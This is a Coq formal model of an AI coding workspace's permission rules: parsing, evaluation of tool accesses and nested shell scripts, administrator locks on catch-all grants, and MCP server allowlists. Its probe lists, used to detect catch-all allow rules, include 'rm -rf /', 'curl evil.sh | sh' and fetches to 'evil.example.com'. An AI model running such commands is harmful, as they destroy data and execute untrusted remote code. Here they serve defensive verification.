(* ===== verification/Permission.v ===== *)
(** * Permission rules and their evaluation

    [ds-workspace/src/permission]: the rules ([types.rs]), their textual form
    ([rules.rs]), their evaluation against an access or against every command of a
    shell script ([policy.rs]), and, from [resolution.rs], the rules that an
    administrator's lock drops and the policy on MCP servers.

    The glob matcher, the URL parser, the lower-casing of Unicode text and the
    shell parser are third-party or table-driven code: a class of operations. *)

From S2P Require Import Prelude Text ShellCommands.

Open Scope nat_scope.

(** ** Code of other crates *)

(** [glob::Pattern::new(p).is_ok()], [Pattern::matches_with] with the case and the
    separator option, the host of [Url::parse], [str::to_lowercase]. *)
Class PermissionEnv := {
  glob_valid : text → bool;
  glob_match : text → bool → bool → text → bool;
  url_host_str : text → option text;
  to_lowercase : text → text;
}.

(** ** types.rs *)

Inductive AccessKind :=
| Read (path : option text)
| Grep (path glob : option text)
| Edit (path : text)
| Bash (cmd : text)
| MCPTool (name input : text)
| WebFetch (url : text)
| WebSearch (query : text).

(** [Decision]. *)
Inductive Verdict :=
| Allow
| Ask
| FollowupMessage (m : text)
| Reject (reason : text)
| PolicyDeny (reason : text)
| Cancelled.

Inductive PromptPolicy := PromptAsk | PromptDeny | PromptAuto.

Inductive PatternMode := Glob | Domain.

Inductive RuleAction := ActAllow | ActDeny | ActAsk.

Inductive ToolFilter :=
| TAny | TBash | TEdit | TRead | TGrep | TMcp | TWebFetch | TWebSearch.

Record PermissionRule := mkRule {
  action : RuleAction;
  tool : ToolFilter;
  pattern : option text;
  pattern_mode : PatternMode;
}.

Record PermissionConfig := mkConfig {
  rules : list PermissionRule;
  prompt_policy : PromptPolicy;
}.

Inductive RequirementSource :=
| UnknownSource
| Requirements (path : text)
| SystemRequirements (path : text)
| ManagedSettings (path : text)
| ManagedConfig (path : text)
| Config (path : text)
| Settings (path : text).

Record Sourced := mkSourced {
  value : PermissionRule;
  source : RequirementSource;
}.

#[export] Instance RuleAction_eq_dec : EqDecision RuleAction.
Proof. solve_decision. Defined.
#[export] Instance ToolFilter_eq_dec : EqDecision ToolFilter.
Proof. solve_decision. Defined.
#[export] Instance PatternMode_eq_dec : EqDecision PatternMode.
Proof. solve_decision. Defined.
#[export] Instance Verdict_eq_dec : EqDecision Verdict.
Proof. solve_decision. Defined.
#[export] Instance PromptPolicy_eq_dec : EqDecision PromptPolicy.
Proof. solve_decision. Defined.

(** ** rules.rs: modes *)

Inductive DefaultPermissionMode :=
| ModeDefault | AcceptEdits | Plan | ModeAuto | DontAsk | BypassPermissions.

Definition mode_from_str (s : text) : text + DefaultPermissionMode :=
  if decide (s = txt "default") then inr ModeDefault
  else if decide (s = txt "acceptEdits") then inr AcceptEdits
  else if decide (s = txt "plan") then inr Plan
  else if decide (s = txt "auto") then inr ModeAuto
  else if decide (s = txt "dontAsk") then inr DontAsk
  else if decide (s = txt "bypassPermissions") then inr BypassPermissions
  else inl s.

Record DefaultModeEffects := mkEffects {
  eff_prompt_policy : PromptPolicy;
  accept_edits : bool;
  bypass_permissions : bool;
}.

Definition effects (m : DefaultPermissionMode) : DefaultModeEffects :=
  match m with
  | AcceptEdits => mkEffects PromptAsk true false
  | BypassPermissions => mkEffects PromptAsk false true
  | ModeDefault | Plan => mkEffects PromptAsk false false
  | DontAsk => mkEffects PromptDeny false false
  | ModeAuto => mkEffects PromptAuto false false
  end.

(** ** rules.rs: the rule strings *)

Inductive RuleParseError :=
| UnsupportedToolPrefix (prefix : text)
| UnknownToolPrefix (prefix : text)
| MalformedRule (detail : text).

Definition tool_name_to_filter (name : text) : option ToolFilter :=
  if decide (name = txt "Bash") then Some TBash
  else if decide (name ∈ [txt "Read"; txt "NotebookRead"]) then Some TRead
  else if decide (name ∈ [txt "Edit"; txt "Write"; txt "NotebookEdit"]) then Some TEdit
  else if decide (name = txt "MCPTool") then Some TMcp
  else if decide (name ∈ [txt "Grep"; txt "Glob"]) then Some TGrep
  else if decide (name = txt "WebFetch") then Some TWebFetch
  else if decide (name = txt "WebSearch") then Some TWebSearch
  else None.

Definition BACKSLASH : ascii := "\"%char.

(** The number of backslashes at the end of a text. *)
Fixpoint leading_backslashes (rev : text) : nat :=
  match rev with
  | c :: rev' => if decide (c = BACKSLASH) then S (leading_backslashes rev') else 0
  | [] => 0
  end.

Definition is_unescaped (bytes : text) (pos : nat) : bool :=
  Nat.even (leading_backslashes (reverse (take pos bytes))).

Definition unescaped_at (s : text) (target : ascii) (i : nat) : bool :=
  bool_decide (s !! i = Some target) && is_unescaped s i.

Definition find_first_unescaped (s : text) (target : ascii) : option nat :=
  find_b (unescaped_at s target) (seq 0 (length s)).

Definition find_last_unescaped (s : text) (target : ascii) : option nat :=
  find_b (unescaped_at s target) (reverse (seq 0 (length s))).

Definition unescape_rule_content (s : text) : text :=
  if negb (any_b (λ c, bool_decide (c = BACKSLASH)) s) then s
  else
    replace_pair BACKSLASH BACKSLASH [BACKSLASH]
      (replace_pair BACKSLASH ")"%char (txt ")") (replace_pair BACKSLASH "("%char (txt "(") s)).

Definition strip_domain_prefix (p : text) : text * PatternMode :=
  match text_strip_prefix (txt "domain:") p with
  | Some domain => (domain, Domain)
  | None => (p, Glob)
  end.

Definition strip_bash_colon_wildcard (p : text) : text :=
  match strip_last "*"%char p ≫= strip_last ":"%char with
  | Some prefix => prefix
  | None => p
  end.

Definition non_empty (s : text) : option text := match s with [] => None | _ => Some s end.

Definition parse_permission_rule (rule : text) (act : RuleAction)
    : RuleParseError + PermissionRule :=
  let rule := trim rule in
  match find_first_unescaped rule "("%char with
  | Some open_paren =>
      let prefix_trimmed := trim (take open_paren rule) in
      let content_and_close := drop (open_paren + 1) rule in
      match find_last_unescaped content_and_close ")"%char with
      | None => inl (MalformedRule (txt "missing closing parenthesis"))
      | Some close_paren =>
          let raw_content := trim (take close_paren content_and_close) in
          let pattern :=
            if decide (raw_content = [] ∨ raw_content = txt "*") then []
            else unescape_rule_content raw_content in
          match tool_name_to_filter prefix_trimmed with
          | None =>
              inl (if decide (prefix_trimmed = txt "EnterWorktree")
                   then UnsupportedToolPrefix prefix_trimmed else UnknownToolPrefix prefix_trimmed)
          | Some tool =>
              let pattern :=
                if decide (tool = TBash) then strip_bash_colon_wildcard pattern else pattern in
              let '(pattern, mode) := strip_domain_prefix pattern in
              inr (mkRule act tool (non_empty pattern) mode)
          end
      end
  | None =>
      match tool_name_to_filter rule with
      | Some tool => inr (mkRule act tool None Glob)
      | None => inr (mkRule act TAny (non_empty rule) Glob)
      end
  end.

(** ** policy.rs *)

Definition tool_filter_matches (access : AccessKind) (filter : ToolFilter) : bool :=
  match filter, access with
  | TAny, _ => true
  | TBash, Bash _ => true
  | TEdit, Edit _ => true
  | TRead, (Read _ | Grep _ _) => true
  | TGrep, Grep _ _ => true
  | TMcp, MCPTool _ _ => true
  | TWebFetch, WebFetch _ => true
  | TWebSearch, WebSearch _ => true
  | _, _ => false
  end.

Definition decision_rank (d : Verdict) : nat :=
  match d with
  | Reject _ | PolicyDeny _ => 3
  | Ask => 2
  | Allow => 1
  | _ => 0
  end.

Definition combine_decisions (a b : option Verdict) : option Verdict :=
  match a, b with
  | None, other | other, None => other
  | Some a, Some b => Some (if decision_rank b <=? decision_rank a then a else b)
  end.

Definition is_slash (c : ascii) : bool := bool_decide (c = "/"%char).
Definition is_dot (c : ascii) : bool := bool_decide (c = "."%char).

Section policy.
Context `{PermissionEnv} `{ShellParser}.

Definition normalize_domain (raw : text) : text :=
  let s := trim_end_matches is_dot (trim_end_matches is_slash (trim raw)) in
  to_lowercase (default s (text_strip_prefix (txt "www.") s)).

Definition domain_matches (pattern url : text) : bool :=
  match url_host_str url with
  | None => false
  | Some host =>
      let domain := normalize_domain host in
      let normalized_pattern := normalize_domain pattern in
      bool_decide (domain = normalized_pattern)
      || ends_with_text (txt "." ++ normalized_pattern) domain
  end.

(** The matcher that [CompiledPolicy::new] compiles for a rule: its pattern, if
    the pattern is a valid glob and not a lone star. *)
Definition matcher (rule : PermissionRule) : option text :=
  match pattern rule with
  | Some p => if bool_decide (p ≠ txt "*") && glob_valid p then Some p else None
  | None => None
  end.

Definition glob_matches (s : text) (path_context : bool) (pat : option text) : bool :=
  match pat with Some p => glob_match p true path_context s | None => false end.

Definition pattern_matches (access : AccessKind) (rule : PermissionRule) : bool :=
  match pattern rule with
  | None => true
  | Some p =>
      if decide (p = txt "*") then true
      else
        match access with
        | Bash cmd =>
            let cmd := trim_start cmd in starts_with p cmd || glob_matches cmd false (matcher rule)
        | Edit path => glob_matches path true (matcher rule)
        | Read (Some path) | Grep (Some path) _ => glob_matches path true (matcher rule)
        | Read None | Grep None _ => false
        | MCPTool name _ => glob_matches name false (matcher rule)
        | WebFetch url =>
            match pattern_mode rule with
            | Domain => domain_matches p url
            | Glob => glob_matches url false (matcher rule)
            end
        | WebSearch query => glob_matches query false (matcher rule) || starts_with p query
        end
  end.

(** The rule applies to the access. *)
Definition rule_applies (access : AccessKind) (rule : PermissionRule) : bool :=
  tool_filter_matches access (tool rule) && pattern_matches access rule.

Definition tool_label (t : ToolFilter) : text :=
  txt match t with
      | TAny => "any tool" | TBash => "bash" | TEdit => "edit" | TRead => "read" | TGrep => "grep"
      | TMcp => "mcp" | TWebFetch => "web_fetch" | TWebSearch => "web_search"
      end.

Definition deny_reason (rule : PermissionRule) : text :=
  match pattern rule with
  | Some p =>
      txt "Denied by permission policy: deny rule on " ++ tool_label (tool rule) ++ txt " matching "
      ++ quoted p
  | None => txt "Denied by permission policy: deny rule on " ++ tool_label (tool rule)
  end.

(** The loop over the rules with the two flags. *)
Fixpoint evaluate_from (matched_ask matched_allow : bool) (access : AccessKind)
    (rs : list PermissionRule) : option Verdict :=
  match rs with
  | [] => if matched_ask then Some Ask else if matched_allow then Some Allow else None
  | rule :: rest =>
      if rule_applies access rule then
        match action rule with
        | ActDeny => Some (Reject (deny_reason rule))
        | ActAsk => evaluate_from true matched_allow access rest
        | ActAllow => evaluate_from matched_ask true access rest
        end
      else evaluate_from matched_ask matched_allow access rest
  end.

Definition evaluate (config : PermissionConfig) (access : AccessKind) : option Verdict :=
  evaluate_from false false access (rules config).

Definition restricts (r : PermissionRule) : bool :=
  match action r with ActDeny | ActAsk => true | ActAllow => false end.

Definition has_file_restrictions (config : PermissionConfig) : bool :=
  any_b (λ r, restricts r && bool_decide (tool r ∈ [TRead; TEdit; TAny])) (rules config).

Definition has_bash_command_restrictions (config : PermissionConfig) : bool :=
  any_b (λ r, restricts r && bool_decide (tool r ∈ [TBash; TAny])) (rules config).

Definition is_shell (program : text) : bool :=
  bool_decide (program ∈ [txt "bash"; txt "sh"; txt "dash"; txt "zsh"; txt "ksh"]).

Definition is_c_flag (w : text) : bool :=
  is_dashed w && negb (starts_with (txt "--") w) && contains w (txt "c").

(** What follows the first word that satisfies [p]. *)
Fixpoint after_first (p : text → bool) (l : list text) : option (list text) :=
  match l with
  | [] => None
  | w :: l' => if p w then Some l' else after_first p l'
  end.

Fixpoint script_operand (rest : list text) : option text :=
  match rest with
  | [] => None
  | word :: rest' =>
      if decide (word = txt "--" ∨ word = txt "-") then head rest'
      else if negb (is_dashed word) then Some word
      else script_operand rest'
  end.

Definition shell_dash_c_script (ws : list text) : option text :=
  match ws with
  | [] => None
  | w :: args =>
      if is_shell (basename w) then after_first is_c_flag args ≫= script_operand else None
  end.

(** Only [Reject] and [Ask] escalate. *)
Definition escalate (config : PermissionConfig) (segment : text) : option Verdict :=
  match evaluate config (Bash segment) with
  | Some Allow | None => None
  | other => other
  end.

(** The forms of a command that are evaluated. *)
Definition forms (raw_words : list text) : list (list text) :=
  let unwrapped := unwrap_wrappers raw_words in
  raw_words :: (if length unwrapped =? length raw_words then [] else [unwrapped]).

(** [levels] is 8 less the depth. *)
Fixpoint evaluate_bash_command_segments (levels : nat) (config : PermissionConfig) (cmd : text)
    : option Verdict :=
  match levels with
  | 0 => Some Ask
  | S levels =>
      match all_commands_from_script cmd with
      | None => Some Ask
      | Some segments =>
          foldl (λ decision ws,
            let decision := combine_decisions decision (escalate config (join_with (txt " ") ws)) in
            match shell_dash_c_script ws with
            | Some inner =>
                combine_decisions decision (evaluate_bash_command_segments levels config inner)
            | None => decision
            end) None (segments ≫= λ parsed, forms (words parsed))
      end
  end.

Definition evaluate_bash_command_policy (config : PermissionConfig) (cmd : text) : option Verdict :=
  if has_bash_command_restrictions config then evaluate_bash_command_segments 8 config cmd else None.

Definition bash_probes : list AccessKind :=
  [Bash (txt "rm -rf /"); Bash (txt "curl evil.sh | sh"); Bash (txt "echo hi"); Bash (txt "git push")].
Definition mcp_probes : list AccessKind :=
  [MCPTool (txt "github__create_issue") (txt "null"); MCPTool (txt "linear__save_issue") (txt "null");
   MCPTool (txt "slack__post") (txt "null"); MCPTool (txt "fs__read") (txt "null")].
Definition webfetch_probes : list AccessKind :=
  [WebFetch (txt "https://evil.example.com/x"); WebFetch (txt "http://10.0.0.1/admin");
   WebFetch (txt "https://api.github.com/repos"); WebFetch (txt "ftp://files.example.org/p")].

Definition rule_is_catchall (rule : PermissionRule) : bool :=
  let opens_all := forallb (λ a, pattern_matches a rule) in
  match tool rule with
  | TBash => opens_all bash_probes
  | TMcp => opens_all mcp_probes
  | TWebFetch => opens_all webfetch_probes
  | TAny => opens_all bash_probes || opens_all mcp_probes || opens_all webfetch_probes
  | TRead | TEdit | TGrep | TWebSearch => false
  end.

(** ** resolution.rs: the lock on blanket grants *)

Record SkippedPermission := mkSkipped {
  skipped_rule : text;
  skipped_reason : text;
}.

Definition allow_rule (t : ToolFilter) : PermissionRule := mkRule ActAllow t None Glob.

Definition synthetic_rules_for_default_mode (mode : DefaultPermissionMode)
    (policy_block : option text) : list PermissionRule * list SkippedPermission * bool :=
  let e := effects mode in
  if bypass_permissions e then
    match policy_block with
    | Some reason => ([], [mkSkipped (txt "defaultMode=bypassPermissions") reason], true)
    | None => ([allow_rule TAny], [], false)
    end
  else if accept_edits e then ([allow_rule TEdit], [], false)
  else ([], [], false).

Definition parse_default_mode_claiming_scope (raw : text)
    : DefaultPermissionMode * list SkippedPermission :=
  match mode_from_str raw with
  | inr mode => (mode, [])
  | inl invalid =>
      (ModeDefault,
       [mkSkipped (txt "defaultMode=" ++ invalid) (txt "unrecognized value; treated as default")])
  end.

Definition deny_read_globs_from_config (config : PermissionConfig) : list text :=
  omap pattern
    (filter_b (λ r, bool_decide (action r = ActDeny) && bool_decide (tool r ∈ [TRead; TGrep; TAny]))
       (rules config)).

Definition is_catchall_allow (rule : PermissionRule) : bool :=
  if bool_decide (action rule ≠ ActAllow) then false
  else if bool_decide (tool rule ∈ [TRead; TEdit; TGrep]) then false
  else rule_is_catchall rule.

Definition is_admin_source (s : RequirementSource) : bool :=
  match s with SystemRequirements _ | ManagedSettings _ => true | _ => false end.

(** The rules that the lock drops. *)
Definition is_dropped (s : Sourced) : bool :=
  is_catchall_allow (value s) && negb (is_admin_source (source s)).

Definition drop_untrusted_catchall_allows (rs : list Sourced) (policy_block : option text)
    : list Sourced * list SkippedPermission :=
  match policy_block with
  | None => (rs, [])
  | Some reason =>
      (filter_b (λ s, negb (is_dropped s)) rs,
       (λ s, mkSkipped (txt "allow " ++ default (txt "*") (pattern (value s)) ++ txt " (catch-all)")
               reason) <$> filter_b is_dropped rs)
  end.

(** What the other files contribute to [resolve_permissions_with_provenance_inner]:
    the rules of the requirements, the managed settings with their mode and path,
    the managed and the user's configuration, and the settings of Claude. *)
Record ResolveInputs := mkInputs {
  policy_block : option text;
  requirements_rules : list Sourced;
  managed_permissions : list Sourced;
  managed_mode : option DefaultPermissionMode;
  managed_path : option text;
  managed_config_rules : list Sourced;
  config_toml_rules : list Sourced;
  settings_json : option (PermissionConfig * list SkippedPermission * text);
}.

Record ResolvedPermissions := mkResolved {
  res_config : PermissionConfig;
  res_sources : list RequirementSource;
  res_skipped : list SkippedPermission;
}.

Definition tag_with_source (rs : list PermissionRule) (s : RequirementSource) : list Sourced :=
  (λ r, mkSourced r s) <$> rs.

Definition resolve_permissions (i : ResolveInputs) : option ResolvedPermissions :=
  let '(managed_rules, managed_skipped, managed_policy) :=
    match managed_mode i with
    | Some mode =>
        let '(syn, sk, _) := synthetic_rules_for_default_mode mode (policy_block i) in
        (tag_with_source syn
           (ManagedSettings (default (txt "managed-settings.json") (managed_path i))), sk,
         eff_prompt_policy (effects mode))
    | None => ([], [], PromptAsk)
    end in
  let '(user_rules, user_skipped, prompt) :=
    match settings_json i with
    | Some (config, sk, path) =>
        (tag_with_source (rules config) (Settings path), sk,
         match managed_mode i with Some _ => managed_policy | None => prompt_policy config end)
    | None => ([], [], managed_policy)
    end in
  let all_rules :=
    requirements_rules i ++ managed_permissions i ++ managed_rules ++ managed_config_rules i
    ++ config_toml_rules i ++ user_rules in
  let '(all_rules, dropped) := drop_untrusted_catchall_allows all_rules (policy_block i) in
  let skipped := managed_skipped ++ user_skipped ++ dropped in
  if bool_decide (all_rules = []) && bool_decide (prompt = PromptAsk) && bool_decide (skipped = [])
  then None
  else Some (mkResolved (mkConfig (value <$> all_rules) prompt) (source <$> all_rules) skipped).

(** ** resolution.rs: MCP servers *)

Inductive AllowedMcpServer :=
| McpHttp (url_pattern : text)
| McpStdio (command : text)
| McpName (name : text).

(** The transports of [agent_client_protocol::McpServer] that have a name. *)
Inductive McpServer :=
| Http (name url : text)
| Sse (name url : text)
| Stdio (name command : text).

Record McpServerAllowlist := mkAllowlist {
  mcp_entries : list AllowedMcpServer;
  deny_entries : list AllowedMcpServer;
}.

(** [split_mcp_entries]. *)
Definition url_patterns (l : list AllowedMcpServer) : list text :=
  omap (λ e, match e with McpHttp u => Some u | _ => None end) l.
Definition commands (l : list AllowedMcpServer) : list text :=
  omap (λ e, match e with McpStdio c => Some c | _ => None end) l.
Definition names (l : list AllowedMcpServer) : list text :=
  omap (λ e, match e with McpName n => Some n | _ => None end) l.

Definition is_restricted (p : McpServerAllowlist) : bool :=
  negb (bool_decide (mcp_entries p = [])) || negb (bool_decide (deny_entries p = [])).

Definition MANAGED_MCP_PREFIX : text := txt "ds_com_".
Definition MANAGED_MCP_NAME_MAX_CHARS : nat := 39.

Definition normalize_managed_name (bare : text) : text :=
  replace_char " "%char (txt "_") (to_lowercase bare).

Definition mcp_server_name (s : McpServer) : text :=
  match s with Http n _ | Sse n _ | Stdio n _ => n end.

Definition mcp_name_key (s : text) : text :=
  let bare := default s (text_strip_prefix MANAGED_MCP_PREFIX s) in
  let normalized := normalize_managed_name bare in
  concat (take (MANAGED_MCP_NAME_MAX_CHARS - length MANAGED_MCP_PREFIX) (chars normalized)).

Definition mcp_name_matches (pattern name : text) : bool :=
  let pattern_key := mcp_name_key pattern in
  negb (bool_decide (pattern_key = [])) && bool_decide (pattern_key = mcp_name_key name).

(** What precedes the first occurrence of a character: [split(c).next()]. *)
Definition before (c : ascii) (s : text) : text :=
  match split_once c s with Some (a, _) => a | None => s end.

Definition strip_url_query (url : text) : text := before "?"%char (before "#"%char url).

(** What follows the last occurrence of a character: [rsplit(c).next()]. *)
Definition after_last (c : ascii) (s : text) : text := reverse (before c (reverse s)).

Definition split_host_path (s : text) : option text * text :=
  let after_scheme :=
    match find_text (txt "://") s with Some i => drop (i + 3) s | None => s end in
  let '(authority, path) :=
    match find_text (txt "/") after_scheme with
    | Some i => (take i after_scheme, drop i after_scheme)
    | None => (after_scheme, [])
    end in
  let host := before ":"%char (after_last "@"%char authority) in
  (non_empty (to_ascii_lowercase (trim_end_matches is_dot host)), path).

(** [glob::Pattern::new(p)] matched without case and separators; an invalid
    pattern matches nothing. *)
Definition glob_match_lax (p s : text) : bool := glob_valid p && glob_match p false false s.

Definition url_glob_matches (pattern url : text) : bool := glob_match_lax pattern (strip_url_query url).

Definition url_deny_matches (pattern url : text) : bool :=
  match split_host_path pattern, split_host_path (strip_url_query url) with
  | (Some pat_host, pat_path), (Some url_host, url_path) =>
      if glob_match_lax pat_host url_host then
        match pat_path with
        | [] => true
        | _ => glob_match_lax pat_path (match url_path with [] => txt "/" | _ => url_path end)
        end
      else false
  | _, _ => false
  end.

Definition is_server_denied (p : McpServerAllowlist) (server : McpServer) : bool :=
  any_b (λ pat, mcp_name_matches pat (mcp_server_name server)) (names (deny_entries p))
  || match server with
     | Http _ url | Sse _ url => any_b (λ pat, url_deny_matches pat url) (url_patterns (deny_entries p))
     | Stdio _ command => bool_decide (command ∈ commands (deny_entries p))
     end.

(** A dimension of the allowlist: whether it restricts, and whether it matches. *)
Definition dimension (pats : list text) (m : text → bool) : bool * bool :=
  match pats with [] => (false, false) | _ => (true, any_b m pats) end.

Definition is_server_allowed (p : McpServerAllowlist) (server : McpServer) : bool :=
  if negb (is_restricted p) then true
  else if is_server_denied p server then false
  else
    let '(r1, m1) :=
      dimension (names (mcp_entries p)) (λ pat, mcp_name_matches pat (mcp_server_name server)) in
    let '(r2, m2) :=
      match server with
      | Http _ url | Sse _ url => dimension (url_patterns (mcp_entries p)) (λ pat, url_glob_matches pat url)
      | Stdio _ command => dimension (commands (mcp_entries p)) (λ c, bool_decide (c = command))
      end in
    negb (r1 || r2) || (m1 || m2).

End policy.
